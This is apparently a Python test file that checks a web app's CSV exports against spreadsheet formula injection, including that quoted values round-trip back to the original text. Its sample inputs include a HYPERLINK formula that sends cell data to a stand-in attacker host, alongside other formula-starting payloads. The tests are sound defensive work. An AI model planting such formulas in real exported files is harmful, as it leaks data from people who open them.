"""Exported CSV never runs as a spreadsheet formula, and reads back as the original text."""

from __future__ import annotations

import csv
import io
import zipfile

from accord.core import csvsafe
from accord.interchange import csvio, services
from accord.org.models import Organization, Team
from accord.org.services import create_organization

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    "plain",
]


def _zip_csv(org: Organization, section: str) -> list[dict[str, str]]:
    data = b"".join(csvio.export_zip(org))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        text = zf.read(f"{section}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_no_exported_cell_starts_with_a_formula_character(db):
    teams = "\n".join(
        f"  - {{slug: t{n}, name: {value!r}, description: {value!r}}}"
        for n, value in enumerate(HOSTILE)
    )
    key_results = (
        "periods: [{name: Q1, start: 2026-01-01, end: 2026-03-31}]\n"
        "objectives: [{id: o1, title: '=1+1', period: Q1, team: t0}]\n"
        "key_results: [{id: k1, objective: o1, name: Down, direction: decrease, "
        "start: -5, target: -10}]\n"
    )
    source = f"accord: 1\nteams:\n{teams}\n{key_results}"
    outcome = services.apply_file(source, org_slug="evil")
    assert outcome.ok and not outcome.report, outcome.as_text()
    org = Organization.objects.get(slug="evil")
    rows = _zip_csv(org, "teams")
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row
    names = [r["name"] for r in rows]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names
    assert "''=already quoted" in names and "'plain apostrophe" in names
    assert _zip_csv(org, "objectives")[0]["title"] == "'=1+1"
    # numbers are numbers, not text: a spreadsheet reads -5 as minus five
    kr = _zip_csv(org, "key_results")[0]
    assert (kr["start"], kr["target"]) == ("-5", "-10")


def test_importing_an_exported_csv_gives_back_the_original_text(db):
    teams = "\n".join(
        f"  - {{slug: t{n}, name: {value!r}, description: {value!r}}}"
        for n, value in enumerate(HOSTILE)
    )
    assert services.apply_file(f"accord: 1\nteams:\n{teams}\n", org_slug="evil").ok
    data = b"".join(csvio.export_zip(Organization.objects.get(slug="evil")))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        exported = zf.read("teams.csv")
    create_organization("Evil copy", "evil-copy")  # a CSV import never creates one
    outcome = csvio.import_csv(exported, org_slug="evil-copy")
    assert outcome.ok and not outcome.report, outcome.as_text()
    copied = dict(Team.objects.filter(org__slug="evil-copy").values_list("slug", "name"))
    assert copied == {f"t{n}": value for n, value in enumerate(HOSTILE)}
    descriptions = Team.objects.filter(org__slug="evil-copy").order_by("slug")
    assert [t.description for t in descriptions] == HOSTILE


def test_neutralise_and_restore_are_inverse():
    for value in [*HOSTILE, "", "'", "''", "-", "a=b", "\tx"]:
        assert csvsafe.restore(csvsafe.neutralise(value)) == value
        assert not csvsafe.neutralise(value)[:1] or csvsafe.neutralise(value)[0] not in "=+-@"


def test_the_decision_export_uses_the_same_rule(cast):
    from accord.decisions import services as decisions
    from tests.conftest import login

    decisions.create_decision(cast.org, None, "'=quoted already", approver=cast.admin)
    decisions.create_decision(cast.org, None, "@SUM(A1)", approver=cast.admin)
    resp = login(cast.member).get("/o/acme/decisions/export.csv")
    text = b"".join(resp.streaming_content).decode()
    questions = sorted(r["question"] for r in csv.DictReader(io.StringIO(text)))
    assert questions == ["''=quoted already", "'@SUM(A1)"]
    assert sorted(csvsafe.restore(q) for q in questions) == ["'=quoted already", "@SUM(A1)"]
